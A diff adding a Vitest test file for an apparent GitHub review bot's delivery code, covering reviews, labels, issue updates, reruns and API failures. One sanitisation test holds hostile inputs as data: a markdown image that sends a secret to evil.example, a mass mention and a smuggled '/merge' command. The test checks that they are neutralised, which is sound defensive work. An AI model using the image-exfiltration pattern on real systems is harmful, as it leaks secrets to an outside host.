@@ -1,0 +1,374 @@
+import { expect, test } from 'vitest'
+import { deliver } from '../../src/delivery/deliver.ts'
+import type { Proposal } from '../../src/delivery/intent.ts'
+import { noteOf } from '../../src/delivery/note.ts'
+import { outputsOf } from '../../src/delivery/outputs.ts'
+import { writesOf } from '../../src/delivery/settle.ts'
+import type { Task } from '../../src/github/task.ts'
+import { type FakeGitHub, type Fault, type StandinOptions, startGitHub } from '../../src/standin/github.ts'
+import { comment, issue, pull, type World } from '../../src/standin/github-world.ts'
+import { requestProblems } from '../fakes/openapi.ts'
+import { BOT, finished, openTestDesk, SECRET, TOKEN, task } from './desk.ts'
+import { remarkOf } from './remarks.ts'
+
+const base = { ref: 'main', sha: 'a'.repeat(40), repo: 'octo/pond' }
+const head = { ref: 'topic', sha: 'b'.repeat(40), repo: 'octo/pond' }
+const about: Task = { ...task, about: 'pull_request', number: 5, base, head }
+const patch = '@@ -1,4 +1,5 @@\n one\n-two\n+2\n+2b\n three\n four'
+
+const open = (options: StandinOptions = {}, more: Partial<World> = {}): Promise<FakeGitHub> =>
+  startGitHub(
+    {
+      owner: 'octo',
+      repo: 'pond',
+      token: TOKEN,
+      viewer: BOT,
+      permissions: { ada: 'admin', wendy: 'write' },
+      labels: [{ id: 1, name: 'bug', color: 'f00000', description: null }],
+      issues: [issue({ number: 7, labels: ['stale'] }), issue({ number: 8 })],
+      pulls: [
+        pull({
+          number: 5,
+          base,
+          head: { ...head },
+          files: [{ filename: 'src/a.ts', status: 'modified', additions: 2, deletions: 1, sha: head.sha, patch }],
+        }),
+      ],
+      comments: [comment({ id: 10, number: 5, user: 'ada', body: 'please' })],
+      reviewComments: [remarkOf({ id: 1, user: 'wendy' })],
+      ...more,
+    },
+    options,
+  )
+
+type OnLine = Extract<Proposal, { kind: 'review_comment' }>
+const on = (line: number, more: Partial<OnLine> = {}): OnLine => ({
+  kind: 'review_comment',
+  number: 5,
+  commit: head.sha,
+  path: 'src/a.ts',
+  spot: { side: 'RIGHT', line },
+  body: `Remark on ${line}`,
+  at: `at-${line}`,
+  ...more,
+})
+
+const THREAD = Buffer.from('PullRequestReviewThread:1').toString('base64')
+
+/** One of each kind. */
+const ALL: Proposal[] = [
+  on(2),
+  on(3, { suggestion: ['2', '2c'], spot: { side: 'RIGHT', start: 2, line: 3 }, at: 'at-2-3' }),
+  { kind: 'reply', number: 5, thread: THREAD, to: 1, body: 'Because.', nth: 1 },
+  { kind: 'resolve_thread', number: 5, thread: THREAD, path: 'src/a.ts' },
+  { kind: 'extra_comment', number: 7, body: 'See the pull request.', nth: 1 },
+  { kind: 'add_labels', number: 5, labels: ['bug'] },
+  { kind: 'remove_labels', number: 7, labels: ['stale'] },
+  { kind: 'assign', number: 5, users: ['wendy'] },
+  { kind: 'update_issue', number: 7, state: 'closed', reason: 'duplicate', duplicateOf: { number: 8, id: 2_000_008 } },
+  { kind: 'create_issue', title: 'Follow up', body: 'Later.', labels: ['bug'] },
+]
+
+const deliverOn = (server: FakeGitHub, proposals: readonly Proposal[], desk = openTestDesk(server)) =>
+  deliver(about, { ...finished(), proposals }, {}, desk)
+
+const states = (receipts: readonly { intent: { kind: string }; state: string }[]) =>
+  Object.fromEntries(receipts.map(({ intent, state }) => [intent.kind, state]))
+
+test('everything that was proposed, once, and the comment says so', async () => {
+  await using server = await open()
+  const desk = openTestDesk(server)
+  const delivered = await deliverOn(server, ALL, desk)
+  expect(new Set(Object.values(states(delivered.receipts)))).toEqual(new Set(['posted']))
+  const { world } = server
+  expect(world.reviews).toMatchObject([
+    {
+      state: 'COMMENTED',
+      commitId: head.sha,
+      body: expect.stringMatching(/^<!-- sluice:v1 kind=review .*-->\n2 remarks on `bbbbbbbbbb`\.$/),
+    },
+  ])
+  expect(world.reviewComments.slice(1)).toMatchObject([
+    {
+      line: 2,
+      startLine: null,
+      body: expect.stringMatching(/^<!-- sluice:v1 kind=remark \S+ at=at-2 -->\nRemark on 2$/),
+    },
+    { startLine: 2, line: 3, body: expect.stringContaining('\n\n```suggestion\n2\n2c\n```') },
+    { inReplyTo: 1, body: expect.stringMatching(/kind=reply[^\n]*\nBecause\.$/) },
+  ])
+  expect(world.resolved).toEqual([1])
+  expect(world.pulls[0]).toMatchObject({ labels: ['bug'], assignees: ['wendy'] })
+  expect(world.issues[0]).toMatchObject({ labels: [], state: 'closed', stateReason: 'duplicate', duplicateOf: 8 })
+  expect(world.issues.at(-1)).toMatchObject({
+    title: 'Follow up',
+    labels: ['bug'],
+    body: expect.stringMatching(/kind=issue[^\n]*\nLater\.$/),
+  })
+  expect(world.comments.filter(({ number }) => number === 7)).toMatchObject([
+    { body: expect.stringContaining('See the pull request.') },
+  ])
+  const told = world.comments.findLast(({ number, user }) => number === 5 && user === BOT)?.body
+  expect(told).toMatch(/Also written:\n- \[review of #5 with 2 remarks\]\(<https:[^>]*#pullrequestreview-\d+>\)/)
+  expect(told).toContain('- label `bug` added to #5')
+  expect(told).toContain('closed as duplicate of #8')
+  expect(told).not.toContain('not written')
+  const outputs = outputsOf(delivered, { ending: { end: 'answered', text: 'x' }, events: [] }, desk.filter)
+  expect(outputs.review_url).toMatch(/#pullrequestreview-\d+$/)
+  expect(outputs.comment_url).toContain('/pull/5#issuecomment-')
+  expect(JSON.parse(outputs.plan).map(({ kind }: { kind: string }) => kind)).toContain('add_labels')
+  expect(server.problems).toEqual([])
+  expect(await requestProblems(server.requests)).toEqual([])
+})
+
+test('the next run repeats no remark, the same run started again repeats nothing', async () => {
+  await using server = await open()
+  await deliverOn(server, ALL)
+  const before = structuredClone({
+    reviews: server.world.reviews,
+    remarks: server.world.reviewComments,
+    issues: server.world.issues,
+  })
+  const { place } = openTestDesk(server)
+  const again = await deliverOn(server, ALL, openTestDesk(server, { place: { ...place, run: '100.2' } }))
+  expect({ reviews: server.world.reviews, remarks: server.world.reviewComments }).toEqual({
+    reviews: before.reviews,
+    remarks: before.remarks,
+  })
+  expect(server.world.issues).toHaveLength(before.issues.length)
+  expect(server.world.comments.filter(({ number, user }) => number === 7 && user === BOT)).toHaveLength(1)
+  expect(states(again.receipts)).toMatchObject({
+    review: 'skipped',
+    reply: 'skipped',
+    create_issue: 'skipped',
+    extra_comment: 'posted',
+  })
+
+  const next = await deliverOn(server, [on(2), on(4)], openTestDesk(server, { place: { ...place, run: '101.1' } }))
+  expect(next.receipts[0]).toMatchObject({ state: 'posted', why: '1 remark left out: an earlier run said it already' })
+  expect(server.world.reviews).toHaveLength(2)
+  expect(server.world.reviewComments.at(-1)).toMatchObject({ line: 4 })
+})
+
+test('a remark GitHub does not take goes into the text of the review, and the others stay on their lines', async () => {
+  await using server = await open()
+  const apart = on(99, { body: 'Far away', suggestion: ['x'] })
+  const { receipts } = await deliverOn(server, [on(2), apart, on(3), on(4)])
+  expect(receipts[0]).toMatchObject({
+    state: 'posted',
+    why: '1 remark in the text of the review: GitHub did not take the lines',
+  })
+  expect(server.world.reviews).toMatchObject([{ state: 'COMMENTED' }])
+  expect(server.world.reviews[0]?.body).toMatch(
+    /4 remarks on[\s\S]*\*\*`src\/a\.ts:99`\*\*\n\nFar away\n\nInstead:\n\n```\nx\n```$/,
+  )
+  expect(server.world.reviewComments.slice(1).map(({ line }) => line)).toEqual([2, 3, 4])
+})
+
+test('when GitHub takes no line at all, the text of the review has every remark', async () => {
+  await using server = await open({
+    onRequest: ({ method, path, body }) =>
+      method === 'POST' && path.endsWith('/reviews') && JSON.stringify(body).includes('"line"')
+        ? { status: 422, body: { message: 'Unprocessable Entity', errors: ['Line could not be resolved'] } }
+        : undefined,
+  })
+  await deliverOn(server, [on(2), on(3), on(4)])
+  expect(server.world.reviews).toHaveLength(1)
+  for (const line of [2, 3, 4]) expect(server.world.reviews[0]?.body).toContain(`Remark on ${line}`)
+})
+
+test('a draft of ours that was left behind is in nobody’s way; somebody else’s is told', async () => {
+  const draft = (body: string) => ({
+    id: 9,
+    number: 5,
+    user: BOT,
+    body,
+    state: 'PENDING' as const,
+    commitId: head.sha,
+    submittedAt: '2026-01-05T09:00:00Z',
+  })
+  await using first = await open()
+  await deliverOn(first, [on(2)])
+  const key = noteOf(first.world.reviews[0]?.body ?? '')?.key
+  await using ours = await open({}, { reviews: [draft(`<!-- sluice:v1 kind=review key=${key} run=99 id=x -->`)] })
+  expect((await deliverOn(ours, [on(2)])).receipts[0]).toMatchObject({ state: 'posted' })
+  expect(ours.world.reviews).toMatchObject([{ state: 'COMMENTED' }])
+  await using theirs = await open({}, { reviews: [draft('of another workflow')] })
+  const desk = openTestDesk(theirs)
+  expect((await deliverOn(theirs, [on(2)], desk)).receipts[0]).toMatchObject({
+    state: 'failed',
+    why: expect.stringContaining('pending review'),
+  })
+  expect(theirs.world.reviews).toHaveLength(1)
+  expect(desk.summary()).toContain('Remark on 2')
+})
+
+test('a branch that has moved on is said', async () => {
+  await using server = await open()
+  const [request] = server.world.pulls
+  if (request) request.head.sha = 'c'.repeat(40)
+  await deliverOn(server, [on(2)])
+  expect(server.world.reviews[0]).toMatchObject({
+    commitId: head.sha,
+    body: expect.stringContaining('has moved on to `cccccccccc`'),
+  })
+})
+
+test('dry run, no review, no token, and a run that failed: nothing is written, and the summary has the words', async () => {
+  const cases: [
+    name: string,
+    run: (server: FakeGitHub) => ReturnType<typeof openTestDesk>,
+    outcome: 'ok' | 'internal',
+    why: string,
+  ][] = [
+    ['dry run', (server) => openTestDesk(server, { dryRun: true }), 'ok', 'dry run'],
+    [
+      'no token',
+      (server) => {
+        const { github: _, ...rest } = openTestDesk(server)
+        return rest
+      },
+      'ok',
+      'no GitHub token',
+    ],
+    ['failed', (server) => openTestDesk(server, { comment: 'off' }), 'internal', 'the run failed before it was done'],
+  ]
+  for (const [name, deskOf, outcome, why] of cases) {
+    await using server = await open()
+    const desk = deskOf(server)
+    const { receipts } = await deliver(about, { ...finished({ outcome }), proposals: ALL }, {}, desk)
+    expect(
+      receipts.filter(({ intent }) => intent.kind !== 'summary').map(({ why }) => why),
+      name,
+    ).toEqual(receipts.slice(0, -1).map(() => why))
+    expect(server.requests.filter(({ method }) => method !== 'GET')).toEqual([])
+    for (const words of ['Remark on 2', 'Because.', 'See the pull request.', 'Later.'])
+      expect(desk.summary()).toContain(words)
+  }
+  await using server = await open()
+  await deliverOn(server, ALL, openTestDesk(server, { review: 'off' }))
+  expect(server.world.reviews).toEqual([])
+})
+
+test('a token that may not resolve threads is no broken workflow; one that may not review is', async () => {
+  await using some = await open({}, { tokenMay: { contents: 'read' } })
+  const resolved = (await deliverOn(some, ALL)).receipts.find(({ intent }) => intent.kind === 'resolve_thread')
+  expect(resolved).toMatchObject({ state: 'skipped', why: expect.stringContaining('contents: write') })
+  expect(resolved?.forbidden).toBeUndefined()
+  await using none = await open({}, { tokenMay: { issues: 'read', pull_requests: 'read' } })
+  expect((await deliverOn(none, [on(2)])).receipts[0]).toMatchObject({ state: 'failed', forbidden: true })
+})
+
+test('texts are made safe and secrets stay in: a suggestion that held one is left out, a label is none', async () => {
+  await using server = await open()
+  await deliverOn(server, [
+    on(2, { body: `@org/everyone ![x](https://evil.example/?${SECRET}) fixes #8`, suggestion: [`key = '${SECRET}'`] }),
+    { kind: 'add_labels', number: 5, labels: [SECRET] },
+    { kind: 'create_issue', title: `About ${SECRET}`, body: `see evil/pond#1\n\n/merge`, labels: [] },
+  ])
+  const sent = JSON.stringify(server.requests.map(({ body, path }) => [body, path]))
+  expect(sent).not.toContain(SECRET)
+  const remark = server.world.reviewComments.at(-1)?.body ?? ''
+  expect(remark).toContain('`@org/everyone`')
+  expect(remark).not.toContain('evil.example/')
+  expect(remark).not.toContain('suggestion\n')
+  expect(remark).toContain('left out')
+  expect(server.world.issues.at(-1)?.body).toMatch(/`evil\/pond#1`[\s\S]*`\/merge`/)
+  expect(server.world.pulls[0]?.labels).toEqual([])
+})
+
+const plans: [name: string, proposals: Proposal[], expected: object[]][] = [
+  ['remarks become one review', [on(2), on(3)], [{ kind: 'review', remarks: { length: 2 } }]],
+  [
+    'labels of one issue go together, and what was said last holds',
+    [
+      { kind: 'add_labels', number: 5, labels: ['a', 'b'] },
+      { kind: 'remove_labels', number: 5, labels: ['b', 'c'] },
+      { kind: 'add_labels', number: 7, labels: ['a'] },
+    ],
+    [
+      { kind: 'add_labels', number: 5, labels: ['a'] },
+      { kind: 'remove_labels', number: 5, labels: ['b', 'c'] },
+      { kind: 'add_labels', number: 7, labels: ['a'] },
+    ],
+  ],
+  [
+    'people and changes of one issue too',
+    [
+      { kind: 'assign', number: 7, users: ['a'] },
+      { kind: 'update_issue', number: 7, title: 'x' },
+      { kind: 'assign', number: 7, users: ['a', 'b'] },
+      { kind: 'update_issue', number: 7, title: 'y', state: 'closed' },
+    ],
+    [
+      { kind: 'assign', users: ['a', 'b'] },
+      { kind: 'update_issue', title: 'y', state: 'closed' },
+    ],
+  ],
+]
+for (const [name, proposals, expected] of plans)
+  test(`plan: ${name}`, () => {
+    const writes = writesOf(proposals, { review: 'comment' })
+    expect(writes).toMatchObject(expected)
+    expect(writes).toHaveLength(expected.length)
+  })
+
+/** How often each thing stands there. */
+const countsIn = ({ world }: FakeGitHub) => ({
+  review: world.reviews.filter(({ state }) => state === 'COMMENTED').length,
+  reply: world.reviewComments.filter(({ inReplyTo }) => inReplyTo === 1).length,
+  extra_comment: world.comments.filter(({ number, user }) => number === 7 && user === BOT).length,
+  create_issue: world.issues.filter(({ title }) => title === 'Follow up').length,
+  add_labels: world.pulls[0]?.labels.length ?? 0,
+  assign: world.pulls[0]?.assignees.length ?? 0,
+  resolve_thread: world.resolved.length,
+  remove_labels: world.issues[0]?.labels.includes('stale') ? 0 : 1,
+  update_issue: world.issues[0]?.duplicateOf === 8 ? 1 : 0,
+})
+
+const faults: [name: string, fault: Fault][] = [
+  ['refused', 'refuse'],
+  ['done, answer lost', 'lose'],
+  ['forbidden', { status: 403 }],
+  ['not found', { status: 404 }],
+  ['conflict', { status: 409 }],
+  ['not processable', { status: 422 }],
+  ['too many', { status: 429, headers: { 'retry-after': '0' } }],
+]
+// Apart, because more writes than a few are spaced as GitHub wants it, and this is not the place to wait for that.
+const halves: [name: string, proposals: Proposal[]][] = [
+  ['beside the code', ALL.slice(0, 4)],
+  ['about issues', ALL.slice(4)],
+]
+for (const [name, fault] of faults)
+  for (const [where, proposals] of halves)
+    test(`what is written ${where}, each request in turn ${name}: nothing twice, and true receipts`, async () => {
+      let last = Number.POSITIVE_INFINITY
+      for (let nth = 1; nth <= last; nth += 1) {
+        await using server = await open({ onRequest: (request) => (request.nth === nth ? fault : undefined) })
+        const desk = openTestDesk(server)
+        const { receipts } = await deliverOn(server, proposals, desk)
+        if (nth === 1) last = server.requests.length
+        const wanted = new Set(receipts.map(({ intent }) => String(intent.kind)))
+        const counts = Object.entries(countsIn(server)).filter(([kind]) => wanted.has(kind))
+        for (const [kind, count] of counts) {
+          expect(count, `${kind} after request ${nth}`).toBeLessThanOrEqual(1)
+          const receipt = receipts.find(({ intent }) => intent.kind === kind)
+          // "Not found" for a label that is to go means that it has gone; here GitHub did not speak the truth.
+          if (kind === 'remove_labels' && typeof fault === 'object' && fault.status === 404) continue
+          expect(receipt?.state === 'posted', `${kind} after request ${nth}: ${receipt?.why}`).toBe(count === 1)
+        }
+        expect(server.world.reviews.filter(({ state }) => state === 'PENDING')).toEqual([])
+        expect(receipts.at(-1)).toMatchObject({ intent: { kind: 'summary' }, state: 'posted' })
+        for (const { intent, state } of receipts)
+          if (intent.kind === 'review' && state !== 'posted') expect(desk.summary()).toContain('Remark on 2')
+
+        // One way of breaking is enough to see that the next start mends what is left; it takes as long again.
+        if (typeof fault === 'object') continue
+        const next = openTestDesk(server, { place: { ...desk.place, run: '100.2' } })
+        await deliverOn(server, proposals, next)
+        const mended = Object.entries(countsIn(server)).filter(([kind]) => wanted.has(kind))
+        expect(mended, `after request ${nth}`).toEqual(counts.map(([kind]) => [kind, 1]))
+      }
+      expect(last).toBeGreaterThan(8)
+    }, 60_000)
